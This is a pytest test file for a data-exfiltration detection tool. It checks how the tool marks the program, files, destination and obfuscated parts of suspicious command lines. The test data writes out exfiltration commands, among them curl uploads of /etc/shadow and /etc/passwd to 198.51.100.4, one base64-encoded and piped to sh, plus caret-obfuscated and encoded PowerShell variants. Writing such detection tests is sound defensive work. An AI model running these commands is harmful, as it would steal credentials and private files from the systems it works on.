"""What is marked in a command line, and what a reader sees of a long one."""

import base64

import pytest

from exfilwatch.commands.fields import fields
from exfilwatch_playbooks.report import marking
from exfilwatch_playbooks.report.marking import Span

from .incidents import ENCODED, HIDDEN, POWERSHELL


def acts(line: str, image: str = "") -> dict[str, list[str]]:
    """The marked texts by kind."""
    found = fields({"CommandLine": line, "Image": image}.get)
    spans = [*marking.acts(line, found), *marking.hidden(line, found)]
    return {
        kind: [line[s.start : s.end] for s in spans if s.kind == kind] for kind in dict.fromkeys(s.kind for s in spans)
    }


@pytest.mark.parametrize(
    ("line", "image", "expected"),
    [
        (
            "curl -s -F file=@/home/jo/plans.pdf https://files.example.org:8443/in?x=1",
            "/usr/bin/curl",
            {
                "program": ["curl"],
                "files": ["/home/jo/plans.pdf"],
                "destination": ["https://files.example.org:8443/in?x=1"],
            },
        ),
        (
            "scp /srv/customers.sql jo@backup.example.org:/tmp/",
            "/usr/bin/scp",
            {"program": ["scp"], "files": ["/srv/customers.sql"], "destination": ["jo@backup.example.org:/tmp/"]},
        ),
        (
            "tar -czf /tmp/orders.tgz /home/jo/orders",
            "/usr/bin/tar",
            {"program": ["tar"], "files": ["/home/jo/orders", "/tmp/orders.tgz"]},
        ),
        ("ls -l", "/usr/bin/ls", {}),
    ],
)
def test_what_a_command_does_is_marked_where_it_stands(line, image, expected) -> None:
    assert acts(line, image) == expected


@pytest.mark.parametrize(
    ("line", "image", "hidden"),
    [
        (f"powershell.exe -nop -w hidden -enc {ENCODED}", POWERSHELL, [ENCODED]),
        (
            'cmd /c c^u^rl -T "C:\\a.zip" h"tt"p://198.51.100.4/',
            "C:\\Windows\\System32\\cmd.exe",
            ["c^u^rl", 'h"tt"p://198.51.100.4/'],
        ),
        ("curl -T /etc/shadow http://198.51.100.4/", "/usr/bin/curl", []),
    ],
    ids=["encoded", "carets and quotes", "nothing hides"],
)
def test_what_hides_the_meaning_is_marked(line, image, hidden) -> None:
    assert acts(line, image).get("hidden", []) == hidden


def test_a_script_in_base64_is_marked_as_what_hides_and_what_came_to_light() -> None:
    blob = base64.b64encode(b"curl -T /etc/passwd http://198.51.100.4/").decode()
    line = f"bash -c 'echo {blob} | base64 -d | sh'"
    plain = str(fields({"CommandLine": line, "Image": "/bin/bash"}.get)["command.plain"])
    assert acts(line, "/bin/bash")["hidden"] == [blob]
    assert [plain[s.start : s.end] for s in marking.found(plain, line)] == [
        "curl",
        "-T",
        "/etc/passwd",
        "http://198.51.100.4/",
    ]


def test_marks_may_overlap() -> None:
    found = marking.marked("abcdef", [Span(0, 4, "matched"), Span(2, 6, "files")], 100)
    assert [(piece.text, piece.kinds) for piece in found.pieces] == [
        ("ab", ("matched",)),
        ("cd", ("matched", "files")),
        ("ef", ("files",)),
    ]


def test_pieces_are_the_text_again() -> None:
    spans = [Span(start, start + 7, kind) for start in range(0, 90, 5) for kind in ("matched", "hidden")]
    text = HIDDEN[:100]
    assert "".join(piece.text for piece in marking.marked(text, spans, 1000).pieces) == text


def test_spans_that_do_not_fit_the_text_are_left_out() -> None:
    found = marking.marked("abc", [Span(-1, 2, "matched"), Span(2, 9, "matched"), Span(2, 2, "matched")], 100)
    assert [piece.kinds for piece in found.pieces] == [()]


@pytest.mark.parametrize("at", [0, 700, 5_000, 9_993])
def test_a_long_text_is_cut_around_what_is_marked(at) -> None:
    text = "x" * at + "-upload" + "x" * (10_000 - at - 7)
    found = marking.marked(text, [Span(at, at + 7, "matched")], 500)
    assert ("-upload", ("matched",)) in [(piece.text, piece.kinds) for piece in found.pieces]
    assert found.before + sum(len(piece.text) for piece in found.pieces) + found.after == len(text)
    assert sum(len(piece.text) for piece in found.pieces) == 500


def test_a_text_that_is_spelled_out_is_no_longer_than_its_limit() -> None:
    found = marking.marked("\u202e" * 10_000, [], 600)
    assert sum(len(piece.text) for piece in found.pieces) <= 100
